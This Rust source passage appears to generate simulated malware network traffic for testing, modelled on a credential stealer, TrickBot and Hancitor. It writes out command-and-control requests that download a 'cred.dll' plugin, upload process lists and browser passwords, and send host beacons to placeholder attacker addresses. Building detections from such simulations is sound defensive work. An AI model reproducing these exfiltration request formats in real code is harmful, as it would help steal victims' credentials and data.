                "203.0.113.32:80",
                ("GET /k8FppT/Plugins/cred.dll", &["Host: 203.0.113.32"], b""),
                ("200 OK", "application/octet-stream", &program(40_000)),
            );
            once(
                net,
                VICTIM,
                "203.0.113.32:80",
                (
                    "POST /k8FppT/index.php",
                    &headers,
                    b"id=108273645500&cred=mail.example|erika|nothing||shop.example|erika|nothing",
                ),
                ("200 OK", "text/html; charset=UTF-8", b"0"),
            );
        }
        net.wait_ms(60_300);
    }
}

fn trickbot(net: &mut Net) {
    browsing(net, VICTIM);
    let folder = "/mor99/EXAMPLE-PC_W10019041.0123456789ABCDEF0123456789ABCDEF";
    for (command, parts) in [
        (
            "90",
            [
                (
                    "proclist",
                    "***TASK LIST***\n[System Process]\nSystem\nsmss.exe\ncsrss.exe\nwininit.exe\nlsass.exe\nsvchost.exe\nexplorer.exe\n",
                ),
                ("sysinfo", "***S Y S T E M  I N F O***\nHostName: EXAMPLE-PC\nOSName: Windows 10\n"),
            ],
        ),
        (
            "81",
            [
                ("data", "https://shop.example/|erika|nothing\nhttps://mail.example/|erika|nothing\n"),
                ("source", "chrome passwords"),
            ],
        ),
    ] {
        let b = "Arasfjasu7";
        let mut body: Vec<u8> =
            parts.iter().flat_map(|(name, value)| part(b, name, None, value.as_bytes())).collect();
        body.extend(end(b));
        let kind = format!("Content-Type: multipart/form-data; boundary={b}");
        once(
            net,
            VICTIM,
            "203.0.113.33:8082",
            (
                &format!("POST {folder}/{command}"),
                &[
                    "Connection: Keep-Alive",
                    &kind,
                    "User-Agent: WinHTTP loader/1.0",
                    "Host: 203.0.113.33:8082",
                ],
                &body,
            ),
            ("200 OK", "text/plain", b"/1/"),
        );
        net.wait_ms(3100);
    }
}

fn hancitor(net: &mut Net) {
    browsing(net, VICTIM);
    net.resolve(VICTIM, "api.ipify.org", "198.51.100.63");
    once(
        net,
        VICTIM,
        "198.51.100.63:80",
        (
            "GET /",
            &[
                "Accept: */*",
                "User-Agent: Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
                "Host: api.ipify.org",
                "Cache-Control: no-cache",
            ],
            b"",
        ),
        ("200 OK", "text/plain", b"192.0.2.10"),
    );
    net.resolve(VICTIM, "first-reed.example", "203.0.113.34");
    for _ in 0..6 {
        once(net, VICTIM, "203.0.113.34:80", ("POST /8/forum.php", &["Accept: */*", "Content-Type: application/x-www-form-urlencoded", "User-Agent: Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko", "Host: first-reed.example", "Cache-Control: no-cache"], b"GUID=1234567890123456789&BUILD=0203_exmpl&INFO=EXAMPLE-PC @ EXAMPLE\\erika&EXT=&IP=192.0.2.10&TYPE=1&WIN=10.0(x64)"), ("200 OK", "text/html", b"QWERARZAEg4OCkBVVQ=="));
        net.wait_ms(120_400);
    }
}
